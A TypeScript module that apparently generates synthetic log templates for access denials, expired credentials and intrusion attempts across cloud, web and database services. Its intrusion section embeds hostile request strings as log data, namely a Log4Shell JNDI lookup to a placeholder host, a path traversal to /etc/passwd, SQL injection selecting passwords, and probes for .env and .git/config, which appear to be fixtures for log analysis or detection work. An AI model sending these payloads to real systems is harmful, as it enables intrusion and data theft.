import { by, families } from '../../family.ts';
import {
  APPS,
  BALANCER,
  FUNCTION,
  GO,
  JAVA,
  MYSQL,
  NGINX,
  NGINX_ACCESS,
  NODE,
  POSTGRESQL,
  SCRIPT,
  SERVERS,
  SPRING,
  SSHD,
} from './writers.ts';

// Who may do what, and who tries.

export const ACCESS = [
  ...families(
    'iam_denied',
    ['errors'],
    by(
      [NODE, FUNCTION],
      'E+! AccessDenied: User: arn:aws:sts::{account}:assumed-role/{svc}/{instance} is not authorized to perform: s3:PutObject on resource: "arn:aws:s3:::{bucket}/{hex}" because no identity-based policy allows the s3:PutObject action',
    ),
    by(
      [NODE, FUNCTION],
      'E+! AccessDeniedException: not authorized to perform: secretsmanager:GetSecretValue',
    ),
    by(
      [JAVA, SPRING],
      'E+! software.amazon.awssdk.services.s3.model.S3Exception: Access Denied (Service: S3, Status Code: 403, Request ID: {long})',
    ),
    by(
      GO,
      'E+ operation error SQS: SendMessage, https response error StatusCode: 403, AccessDenied: Access to the resource https://sqs.{region}.amazonaws.com/ is denied.',
    ),
    by(
      GO,
      'E+ operation error EC2: DescribeInstances, api error UnauthorizedOperation: You are not authorized to perform this operation.',
    ),
    by(
      APPS,
      'E+ role of {svc} [[lacks|no longer has]] the permission to read {bucket}',
      'W policy changed {s} minutes ago',
    ),
    by(SERVERS, 'E+ explicit deny in a service control policy: dynamodb:PutItem on {table}'),
    by(FUNCTION, 'E+! KMS: the ciphertext refers to a key that this role may not use, kms:Decrypt is denied'),
    by(SCRIPT, 'E+ s3cmd: ERROR: S3 error: 403 (AccessDenied): Access Denied'),
    by(
      SERVERS,
      'E+ sts:AssumeRole for account {account} was [[denied|forbidden]], trust policy does not name us',
    ),
    by(POSTGRESQL, 'E+ permission denied for table {table}'),
    by(
      MYSQL,
      'E+ MY-010045 Server Event Scheduler: [app@%].[{svc}.purge_{table}] execution failed, user no longer has EVENT privilege.',
    ),
  ),
  ...families(
    'credential_expired',
    ['errors', 'retry'],
    by([NODE, FUNCTION], 'E+! ExpiredTokenException: The security token included in the request is expired'),
    by([NODE, FUNCTION], 'E+! TokenExpiredError: jwt expired', 'W session of {user} ended at {past}'),
    by(
      [JAVA, SPRING],
      'E+! The provided token has expired. (Service: S3, Status Code: 400, Request ID: {long}, Extended Request ID: {hex})',
    ),
    by(
      [JAVA, SPRING],
      'E+! com.nimbusds.jwt.proc.BadJWTException: Expired JWT',
      'W token of partner {peer} was valid until {past}',
    ),
    by(
      GO,
      'E+ operation error STS: GetCallerIdentity, api error InvalidClientTokenId: The security token included in the request is invalid.',
    ),
    by(
      GO,
      'E+ oauth2: cannot fetch token: 400 Bad Request Response: {"error":"invalid_grant","error_description":"refresh token is expired"}',
    ),
    by(
      APPS,
      'E+ [[password|access key|API key]] for {peer} is past its end, {past}',
      'W rotation of the secret has not come through',
    ),
    by(SCRIPT, 'E+ s3cmd: ERROR: S3 error: 400 (ExpiredToken): The provided token has expired.'),
    by(
      BALANCER,
      'W+ elb=561; target=-; to=-; error=AuthInvalidIdToken',
      'W+ elb=401; target=-; to=-; error=AuthTokenEpRequestFailed',
    ),
    by(
      POSTGRESQL,
      'F+ PAM authentication failed for user "app"',
      'I pam_authenticate failed: Permission denied',
    ),
    by(
      JAVA,
      'E+! java.sql.SQLException: Your password has expired. To log in you must change it using a client that supports expired passwords.',
    ),
    by(
      SERVERS,
      'W+ signature of our request is too old: clock or credentials of {past}',
      'E+ provider [[demands|wants]] new credentials',
    ),
  ),
  ...families(
    'intrusion_attempt',
    [],
    by(
      SSHD,
      'I+ Invalid user admin from {pub} port {port}',
      'I+ Failed password for invalid user admin from {pub} port {port} ssh2',
      'E error: maximum authentication attempts exceeded for root from {pub} port {port} ssh2 [preauth]',
    ),
    by(
      SSHD,
      'I+ Failed password for root from {pub} port {port} ssh2',
      'I+ Disconnected from authenticating user root {pub} port {port} [preauth]',
    ),
    by(
      NGINX_ACCESS,
      'W+ 404 153 /.env python-requests/2.31',
      'W+ 404 153 /wp-login.php Mozilla/5.0',
      'W+ 403 153 /cgi-bin/..%2f..%2fetc/passwd zgrab/0.x',
    ),
    by(
      NGINX_ACCESS,
      'W+ 200 {k} /?q=%24%7Bjndi:ldap://{pub}/a%7D curl/8.5.0',
      'W+ 400 157 /?id=1%20union%20select%20null Mozilla/5.0',
    ),
    by(NGINX, 'E+ access forbidden by rule, client: {pub}, server: _, request: "GET /.git/config HTTP/1.1"'),
    by(
      BALANCER,
      'W+ elb=403; target=-; to=-; actions=waf; path=/wp-login.php; client={pub}',
      'W+ elb=403; target=-; to=-; actions=waf; path=/.env; client={pub}',
      'W+ elb=403; target=-; to=-; actions=waf; client={pub}',
    ),
    by(
      SERVERS,
      'W+ {k} wrong passwords for {user} from {pub}',
      'W account of {user} is locked after too many wrong passwords',
    ),
    by(
      SERVERS,
      'W+ request from {pub} carries [[a script|SQL]] in parameter id: 1 union select password from {table}',
    ),
    by(
      FUNCTION,
      'W+ token with a forged signature from {pub}',
      'W+ {k} attempts to guess a reset code from {pub}',
    ),
    by(
      POSTGRESQL,
      'F+ password authentication failed for user "postgres"',
      'F+ DETAIL: Role "postgres" does not match pg_hba.conf line {s}: "host all all all md5"',
    ),
    by(
      POSTGRESQL,
      'F+ no pg_hba.conf entry for host "{pub}", user "admin", database "postgres", no encryption',
    ),
    by(
      MYSQL,
      "I+ MY-010926 Server Access denied for user 'root'@'{pub}' (using password: YES)",
      "I+ MY-010926 Server Access denied for user 'admin'@'{pub}' (using password: NO)",
    ),
  ),
];
